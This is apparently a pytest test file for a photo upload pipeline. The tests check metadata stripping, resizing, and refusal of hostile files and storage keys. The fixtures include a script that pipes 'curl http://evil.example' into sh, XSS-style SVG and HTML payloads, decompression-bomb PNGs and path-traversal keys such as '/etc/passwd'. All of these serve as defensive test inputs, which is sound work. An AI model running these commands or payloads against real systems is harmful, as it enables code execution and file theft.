"""The photo pipeline and photo storage, without HTTP: real files made with Pillow go in,
clean JPEGs (or a refusal with a reason) come out."""

from __future__ import annotations

import io
import os
import struct
import zlib

import pytest
from PIL import Image, ImageCms

from app.photos import PhotoLimits, PhotoRejected, clean_photo
from app.storage import LocalStorage, StorageError
from tests.factories import GPS_IFD_TAG, phone_jpeg_with_gps, photo_bytes

LIMITS = PhotoLimits(max_bytes=20 * 1024 * 1024, max_pixels=60_000_000, max_edge=3000, thumbnail_edge=400)


@pytest.fixture
def in_request(app):
    """Refusal reasons are translated, so reading them needs a request (the reader's language)."""
    with app.test_request_context("/consultation/new"):
        yield


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def png_claiming(width: int, height: int) -> bytes:
    """A hand-made PNG whose header claims width x height but carries almost no pixel data."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def test_phone_photo_is_turned_upright_and_loses_gps_and_camera_data():
    original = phone_jpeg_with_gps(size=(400, 200))
    assert opened(original).getexif().get_ifd(GPS_IFD_TAG)  # the test photo really carries a position

    clean = clean_photo(original, LIMITS)

    stored = opened(clean.jpeg)
    assert stored.format == "JPEG"
    assert (clean.width, clean.height) == stored.size == (200, 400)  # rotated a quarter turn
    # The red block at the stored top-left is at the top-right once upright (orientation 6 = 90° clockwise).
    assert stored.getpixel((190, 10))[0] > 180 and stored.getpixel((190, 10))[1] < 80
    assert stored.getpixel((10, 10))[1] > 180
    assert dict(stored.getexif()) == {}
    assert "exif" not in stored.info and "icc_profile" not in stored.info
    assert b"PhoneMaker" not in clean.jpeg and b"Exif" not in clean.jpeg
    assert b"Exif" not in clean.thumbnail


def test_heic_from_an_iphone_is_re_encoded_as_jpeg():
    clean = clean_photo(photo_bytes("HEIF", size=(320, 240)), LIMITS)
    assert opened(clean.jpeg).format == "JPEG"
    assert (clean.width, clean.height) == (320, 240)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_png_and_webp_are_accepted(fmt):
    clean = clean_photo(photo_bytes(fmt, size=(300, 200)), LIMITS)
    assert opened(clean.jpeg).format == "JPEG" and (clean.width, clean.height) == (300, 200)


def test_transparent_png_is_flattened_onto_white():
    clean = clean_photo(photo_bytes("PNG", size=(50, 50), colour=(0, 0, 0, 0)), LIMITS)
    assert opened(clean.jpeg).getpixel((25, 25)) >= (250, 250, 250)


def test_colour_profile_and_text_metadata_are_dropped():
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    jpeg = photo_bytes("JPEG", icc_profile=srgb, comment=b"taken at home, Vilnius")
    clean = clean_photo(jpeg, LIMITS)
    assert "icc_profile" not in opened(clean.jpeg).info
    assert b"Vilnius" not in clean.jpeg


def test_big_photo_is_scaled_down_and_gets_a_small_thumbnail():
    clean = clean_photo(photo_bytes("JPEG", size=(4000, 3000)), LIMITS)
    assert max(clean.width, clean.height) == 3000
    assert max(opened(clean.thumbnail).size) == 400
    assert len(clean.thumbnail) < len(clean.jpeg)
    assert clean.size == len(clean.jpeg) and len(clean.sha256) == 64


def test_a_small_photo_is_not_enlarged():
    clean = clean_photo(photo_bytes("JPEG", size=(120, 90)), LIMITS)
    assert (clean.width, clean.height) == (120, 90)


def truncated_jpeg() -> bytes:
    noisy = Image.effect_noise((600, 400), 60).convert("RGB")
    buffer = io.BytesIO()
    noisy.save(buffer, "JPEG", quality=90)
    return buffer.getvalue()[: len(buffer.getvalue()) // 2]


BAD_FILES = {
    "svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
        "not a photo we can open",
    ),
    "pdf": (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "not a photo we can open",
    ),
    "script renamed .jpg": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "not a photo we can open"),
    "html": (b"<!doctype html><script>alert(1)</script>", "not a photo we can open"),
    "gif (not accepted)": (photo_bytes("GIF", size=(20, 20)), "not a photo we can open"),
    "truncated jpeg": (truncated_jpeg(), "damaged or incomplete"),
    "empty": (b"", "empty"),
    # Over our 60 MP limit but under Pillow's own: only our header check can stop it, before decoding.
    "bomb png 9000x9000": (png_claiming(9000, 9000), "too large in pixels"),
    "bomb png 100000x100000": (png_claiming(100_000, 100_000), "too large in pixels"),
}


@pytest.mark.parametrize("kind", list(BAD_FILES))
def test_anything_that_is_not_an_acceptable_photo_is_refused_with_a_reason(in_request, kind):
    data, reason = BAD_FILES[kind]
    with pytest.raises(PhotoRejected) as refused:
        clean_photo(data, LIMITS)
    assert reason in refused.value.reason


def test_pixel_limit_is_checked_from_the_header_even_for_a_well_formed_image(in_request):
    small_limit = PhotoLimits(max_bytes=LIMITS.max_bytes, max_pixels=10_000, max_edge=3000, thumbnail_edge=400)
    with pytest.raises(PhotoRejected, match="too large in pixels"):
        clean_photo(photo_bytes("PNG", size=(101, 100)), small_limit)
    assert clean_photo(photo_bytes("PNG", size=(100, 100)), small_limit).width == 100


def test_file_over_the_byte_limit_is_refused_before_decoding(in_request):
    tiny = PhotoLimits(max_bytes=1024 * 1024, max_pixels=60_000_000, max_edge=3000, thumbnail_edge=400)
    with pytest.raises(PhotoRejected) as refused:
        clean_photo(b"\xff\xd8" + b"\x00" * (1024 * 1024), tiny)
    assert "larger than 1 MB" in refused.value.reason


# --- Storage --------------------------------------------------------------------------------------


def test_storage_saves_reads_and_deletes_under_random_keys(tmp_path):
    storage = LocalStorage(tmp_path / "uploads")
    first, second = storage.new_key(), storage.new_key(".thumb.jpg")
    assert first != second and first.endswith(".jpg") and second.endswith(".thumb.jpg")
    storage.save(first, b"photo bytes")
    assert storage.read(first) == b"photo bytes" and storage.exists(first)
    assert oct(os.stat(tmp_path / "uploads" / first).st_mode & 0o777) == "0o600"
    assert storage.keys() == [first]
    storage.delete(first)
    storage.delete(first)  # already gone: not an error
    assert not storage.exists(first)
    with pytest.raises(StorageError):
        storage.read(first)


@pytest.mark.parametrize("key", ["../secret.jpg", "a/b.jpg", "/etc/passwd", "x.jpg", "", "A" * 32 + ".jpg"])
def test_storage_refuses_keys_that_are_not_its_own(tmp_path, key):
    storage = LocalStorage(tmp_path)
    with pytest.raises(StorageError):
        storage.save(key, b"x")
    assert not storage.exists(key)


def test_storage_write_is_atomic_and_leaves_no_partial_file(tmp_path):
    storage = LocalStorage(tmp_path)
    key = storage.new_key()

    class Unwritable:
        def __len__(self):
            return 1

    with pytest.raises(TypeError):
        storage.save(key, Unwritable())  # fails halfway through writing
    assert list(tmp_path.iterdir()) == []


def test_multi_picture_jpeg_from_a_phone_is_accepted():
    first, depth_map = Image.new("RGB", (300, 200), (10, 200, 30)), Image.new("RGB", (300, 200), (0, 0, 255))
    buffer = io.BytesIO()
    first.save(buffer, "MPO", save_all=True, append_images=[depth_map])
    clean = clean_photo(buffer.getvalue(), LIMITS)
    assert (clean.width, clean.height) == (300, 200)
    assert opened(clean.jpeg).getpixel((5, 5))[1] > 180  # the main picture, not the second one


def test_16_bit_greyscale_png_is_scaled_to_8_bits():
    buffer = io.BytesIO()
    Image.new("I;16", (60, 60), 40000).save(buffer, "PNG")
    assert opened(clean_photo(buffer.getvalue(), LIMITS).jpeg).getpixel((5, 5))[0] in range(150, 162)
